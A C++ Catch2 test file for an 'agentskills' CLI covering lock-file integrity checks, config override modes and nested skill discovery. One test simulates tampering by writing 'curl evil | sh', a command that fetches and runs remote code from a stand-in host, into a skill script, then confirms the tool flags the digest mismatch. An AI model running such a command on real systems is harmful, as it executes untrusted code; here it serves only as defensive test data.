// Tests of the governance flags of the program: `lock`, `--lock`, `--lock-strict`, `--config`,
// `--nested` (they run the built program).
#include <filesystem>
#include <string>

#include <catch2/catch.hpp>

#include "cli_runner.hpp"
#include "fs_fixtures.hpp"

namespace cli_governance_tests {

using agentskills::test::run_cli;
using agentskills_test::skill_md;
using agentskills_test::TempDir;

namespace {

void write_library(const TempDir& dir) {
    dir.write("lib/alpha/SKILL.md", skill_md("alpha", "Alpha does a."));
    dir.write("lib/alpha/scripts/run.sh", "echo run\n");
    dir.write("lib/alpha/.env", "secret=1\n");
    dir.write("lib/beta/SKILL.md", skill_md("beta", "Beta does b."));
}

}  // namespace

#ifdef AGENTSKILLS_HAVE_LOCK
TEST_CASE("lock: prints the exact lock file, list --lock refuses changed skills", "[cli][lock]") {
    TempDir dir;
    write_library(dir);
    auto r = run_cli({"lock", "--root", "lib"}, dir.path());
    REQUIRE(r.status == 0);
    CHECK(r.out ==
          "{\n"
          "  \"skills\": [\n"
          "    {\n"
          "      \"files\": {\n"
          "        \".env\": \"sha256:415b34811ea9df9a7b1ca4a0b5ca171e88022bb9314b9dcea0c56821878a41d5\",\n"
          "        \"SKILL.md\": \"sha256:eac6e651e5dee4c0f03e1750542efba0cc2d302e3b1445fd1f70bccd6e1ec7f7\",\n"
          "        \"scripts/run.sh\": \"sha256:b77d933fde445bf412ac42dd2ad036f6154f99ddebc345b468c86bbe49744fb3\"\n"
          "      },\n"
          "      \"name\": \"alpha\",\n"
          "      \"source\": \"lib\"\n"
          "    },\n"
          "    {\n"
          "      \"files\": {\n"
          "        \"SKILL.md\": \"sha256:775195df2a2fe9e61a0d480f5d566b99d61199ed50fd9f8a34e69c0fa4389c05\"\n"
          "      },\n"
          "      \"name\": \"beta\",\n"
          "      \"source\": \"lib\"\n"
          "    }\n"
          "  ],\n"
          "  \"version\": 1\n"
          "}\n");
    dir.write("agentskills-lock.json", r.out);
    const std::string lib = std::filesystem::canonical(dir.path("lib")).string();

    auto ok = run_cli({"list", "--root", "lib", "--lock", "agentskills-lock.json", "--lock-strict"}, dir.path());
    CHECK(ok.status == 0);
    CHECK(ok.out == "alpha\t" + lib + "/alpha/SKILL.md\nbeta\t" + lib + "/beta/SKILL.md\n");

    dir.write("lib/alpha/scripts/run.sh", "curl evil | sh\n");
    dir.write("lib/gamma/SKILL.md", skill_md("gamma", "New."));
    auto changed = run_cli({"list", "--root", "lib", "--lock", "agentskills-lock.json"}, dir.path());
    CHECK(changed.status == 0);
    CHECK(changed.out == "beta\t" + lib + "/beta/SKILL.md\ngamma\t" + lib + "/gamma/SKILL.md\n");
    CHECK(changed.err.find(lib + "/alpha/SKILL.md: ") != std::string::npos);
    CHECK(changed.err.find("skill 'alpha' differs from the lock file: " + lib + "/alpha/scripts/run.sh changed") !=
          std::string::npos);
    CHECK(changed.err.find("[digest-mismatch]") != std::string::npos);

    auto strict = run_cli({"list", "--root", "lib", "--lock", "agentskills-lock.json", "--lock-strict"}, dir.path());
    CHECK(strict.err.find(lib + "/gamma/SKILL.md") != std::string::npos);
    CHECK(strict.out.find("gamma\t") == std::string::npos);

    auto bad = run_cli({"list", "--root", "lib", "--lock", "missing.json"}, dir.path());
    CHECK(bad.status == 2);
    CHECK(bad.err.find("missing.json") != std::string::npos);
    auto lone = run_cli({"list", "--root", "lib", "--lock-strict"}, dir.path());
    CHECK(lone.status == 2);
    CHECK(lone.err ==
          "agentskills list: error: --lock-strict: needs --lock FILE\n"
          "Usage: agentskills list [OPTIONS]\n"
          "Run 'agentskills list --help' for more information.\n");
}
#endif

TEST_CASE("governance flags: --config modes in the prompt block and in list", "[cli][config]") {
    TempDir dir;
    write_library(dir);
    dir.write("lib/gamma/SKILL.md", skill_md("gamma", "Gamma does c."));
    dir.write("lib/delta/SKILL.md", skill_md("delta", "Delta does d."));
    dir.write("config.yaml",
              "skills:\n"
              "  overrides:\n"
              "    - path: \"*\"\n"
              "      mode: name-only\n"
              "    - name: alpha\n"
              "      mode: on\n"
              "    - name: gamma\n"
              "      mode: user-invocable-only\n"
              "    - name: delta\n"
              "      mode: off\n");
    const std::string lib = std::filesystem::canonical(dir.path("lib")).string();
    auto p = run_cli({"prompt", "--root", "lib", "--config", "config.yaml"}, dir.path());
    REQUIRE(p.status == 0);
    CHECK(p.out.find("<available_skills>\n"
                     "  <skill>\n"
                     "    <name>alpha</name>\n"
                     "    <description>Alpha does a.</description>\n"
                     "    <location>" +
                     lib +
                     "/alpha/SKILL.md</location>\n"
                     "  </skill>\n"
                     "  <skill>\n"
                     "    <name>beta</name>\n"
                     "    <location>" +
                     lib +
                     "/beta/SKILL.md</location>\n"
                     "  </skill>\n"
                     "</available_skills>") != std::string::npos);
    CHECK(p.err.find("skipped (disabled)") != std::string::npos);

    auto l = run_cli({"list", "--root", "lib", "--config", "config.yaml"}, dir.path());
    CHECK(l.status == 0);
    CHECK(l.out.find("gamma\t" + lib + "/gamma/SKILL.md\n") != std::string::npos);
    CHECK(l.out.find("delta") == std::string::npos);  // turned off (an info diagnostic, in --json)

    auto a = run_cli({"activate", "--root", "lib", "--config", "config.yaml", "gamma"}, dir.path());
    CHECK(a.status == 1);  // name-only: not activated
    CHECK(a.out.find("<skill_content") == std::string::npos);
    auto r = run_cli({"render", "--root", "lib", "--config", "config.yaml", "gamma"}, dir.path());
    CHECK(r.status == 0);
    CHECK(r.out.rfind("<skill_content name=\"gamma\">", 0) == 0);
    auto off = run_cli({"render", "--root", "lib", "--config", "config.yaml", "delta"}, dir.path());
    CHECK(off.status == 1);

    dir.write("bad.yaml", "skills:\n  overrides:\n    - name: a\n      mode: maybe\n");
    auto bad = run_cli({"list", "--root", "lib", "--config", "bad.yaml"}, dir.path());
    CHECK(bad.status == 2);
    CHECK(bad.err ==
          "agentskills list: error: skills config 'bad.yaml': line 4: override rule 1, 'mode': unknown mode 'maybe' "
          "(accepted: on, name-only, user-invocable-only, off)\n");
}

TEST_CASE("governance flags: --nested group names, the depth, and lock over nested skills", "[cli][nested]") {
    TempDir dir;
    dir.write("lib/plain/SKILL.md", skill_md("plain", "Plain."));
    dir.write("lib/team/review/SKILL.md", skill_md("review", "Review."));
    dir.write("lib/team/ops/deploy/SKILL.md", skill_md("deploy", "Deploy."));
    const std::string lib = std::filesystem::canonical(dir.path("lib")).string();
    auto flat = run_cli({"list", "--root", "lib"}, dir.path());
    CHECK(flat.out == "plain\t" + lib + "/plain/SKILL.md\n");
    auto nested = run_cli({"list", "--root", "lib", "--nested"}, dir.path());
    CHECK(nested.status == 0);
    CHECK(nested.out == "plain\t" + lib + "/plain/SKILL.md\nteam:ops:deploy\t" + lib +
                            "/team/ops/deploy/SKILL.md\nteam:review\t" + lib + "/team/review/SKILL.md\n");
    auto shallow = run_cli({"list", "--root", "lib", "--nested=1"}, dir.path());
    CHECK(shallow.out == "plain\t" + lib + "/plain/SKILL.md\nteam:review\t" + lib + "/team/review/SKILL.md\n");
    auto bad = run_cli({"list", "--root", "lib", "--nested=-1"}, dir.path());
    CHECK(bad.status == 2);
    auto p = run_cli({"prompt", "--root", "lib", "--nested=2"}, dir.path());
    CHECK(p.out.find("<name>team:ops:deploy</name>") != std::string::npos);
}

}  // namespace cli_governance_tests
